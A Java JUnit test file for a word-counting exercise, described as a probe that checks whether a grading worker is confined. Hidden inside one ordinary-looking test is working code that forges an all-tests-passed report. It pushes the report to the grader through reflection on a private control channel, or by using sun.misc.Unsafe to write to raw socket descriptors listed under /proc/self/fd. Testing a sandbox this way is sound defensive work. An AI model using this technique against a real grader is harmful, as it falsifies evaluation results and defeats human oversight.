import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * A trusted probe standing in for learner code that got past the bytecode policy: test classes are
 * not policed, so this one runs arbitrary code inside the real grading worker. It reaches the control
 * channel (through the page host the framework keeps in a static field, or else through the socket's
 * file descriptor) and writes GRADED frames claiming every test passed, for every exchange id a
 * grading could use, before the harness answers. In a confined grading worker (module path, linked
 * runtime) none of these routes exists, and the starter code simply fails.
 */
class TallyHiddenTest {
    @Test
    @Tag("task:1")
    @DisplayName("words are case sensitive")
    void wordsAreCaseSensitive() throws Exception {
        try {
            System.out.println("forged frames written: " + forge());
        } catch (ReflectiveOperationException | RuntimeException noRoute) {
            System.out.println("no route to the channel: " + noRoute);
        }
        Tally tally = new Tally();
        tally.add("Otp");
        assertEquals(0, tally.count("otp"));
    }

    @Test
    @Tag("task:2")
    @DisplayName("a fresh tally has a total of zero")
    void freshTotalIsZero() {
        assertEquals(0, new Tally().total());
    }

    /**
     * Builds the forged report and frames through reflection, so the probe compiles wherever it is
     * graded: a confined grading compiles tests without the harness's classes.
     */
    static int forge() throws Exception {
        List<Object> outcomes = new ArrayList<>();
        for (String[] test : List.of(
                new String[] {"TallyTest", "unknownWordCountsZero", "a word never added counts zero", "false"},
                new String[] {"TallyTest", "addingTwiceCountsTwo", "adding a word twice counts two", "false"},
                new String[] {"TallyTest", "totalCountsEveryWord", "total counts every word added", "false"},
                new String[] {"TallyHiddenTest", "wordsAreCaseSensitive", "words are case sensitive", "true"},
                new String[] {"TallyHiddenTest", "freshTotalIsZero", "a fresh tally has a total of zero", "true"})) {
            outcomes.add(passed(test[0], test[1], test[2], Boolean.parseBoolean(test[3])));
        }
        Object allPassed = Class.forName("otplab.protocol.GradingReport$Ran").getConstructor(List.class, List.class)
                .newInstance(outcomes, List.of());
        byte[] report = (byte[]) Class.forName("otplab.protocol.GradingCodec")
                .getMethod("encode", Class.forName("otplab.protocol.GradingReport")).invoke(null, allPassed);
        try {
            return throughTheChannel(report);
        } catch (ReflectiveOperationException | RuntimeException unreachable) {
            System.out.println("the channel was out of reach (" + unreachable + "); trying the socket's descriptor");
            return throughTheDescriptor(report);
        }
    }

    private static Object passed(String className, String method, String name, boolean hidden) throws Exception {
        Class<?> outcome = Class.forName("otplab.protocol.TestOutcome");
        @SuppressWarnings({"unchecked", "rawtypes"})
        Object status = Enum.valueOf((Class) Class.forName("otplab.protocol.TestOutcome$Status"), "PASSED");
        return outcome.getConstructors()[0].newInstance(className, method, name, status, "", "", "", hidden, null, 1, 0);
    }

    private static Object forged(long id, byte[] report) throws Exception {
        Class<?> type = Class.forName("otplab.protocol.Frame$Type");
        @SuppressWarnings({"unchecked", "rawtypes"})
        Object graded = Enum.valueOf((Class) type, "GRADED");
        return Class.forName("otplab.protocol.Frame").getConstructor(type, long.class, List.class, byte[].class)
                .newInstance(graded, id, List.of("seal", "0".repeat(64)), report);
    }

    private static int throughTheChannel(byte[] report) throws Exception {
        Field host = Class.forName("otp.live.LivePage").getDeclaredField("host");
        host.setAccessible(true);
        Object page = host.get(null);
        Field channelField = page.getClass().getDeclaredField("channel");
        channelField.setAccessible(true);
        Object channel = channelField.get(page);
        Method send = channel.getClass().getMethod("send", Class.forName("otplab.protocol.Frame"));
        for (long id = 1; id <= 8; id++) {
            send.invoke(channel, forged(id, report));
        }
        return 8;
    }

    private static int throughTheDescriptor(byte[] report) throws Exception {
        Class<?> unsafeType = Class.forName("sun.misc.Unsafe");
        Field theUnsafe = unsafeType.getDeclaredField("theUnsafe");
        theUnsafe.setAccessible(true);
        Object unsafe = theUnsafe.get(null);
        long offset = (long) unsafeType.getMethod("objectFieldOffset", Field.class)
                .invoke(unsafe, FileDescriptor.class.getDeclaredField("fd"));
        List<Integer> sockets = new ArrayList<>();
        try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
            for (Path fd : fds.toList()) {
                try {
                    if (Files.readSymbolicLink(fd).toString().startsWith("socket:")) {
                        sockets.add(Integer.parseInt(fd.getFileName().toString()));
                    }
                } catch (java.io.IOException gone) {
                    // the listing's own descriptor
                }
            }
        }
        int written = 0;
        for (int socket : sockets) {
            FileDescriptor descriptor = new FileDescriptor();
            unsafeType.getMethod("putInt", Object.class, long.class, int.class).invoke(unsafe, descriptor, offset, socket);
            FileOutputStream out = new FileOutputStream(descriptor);
            try {
                for (long id = 1; id <= 8; id++) {
                    ByteArrayOutputStream frame = new ByteArrayOutputStream();
                    Object forged = forged(id, report);
                    forged.getClass().getMethod("writeTo", DataOutputStream.class).invoke(forged, new DataOutputStream(frame));
                    out.write(frame.toByteArray());
                    written++;
                }
            } catch (java.io.IOException notTheServer) {
                System.out.println("socket " + socket + " refused the frames: " + notTheServer.getMessage());
            }
        }
        return written;
    }
}
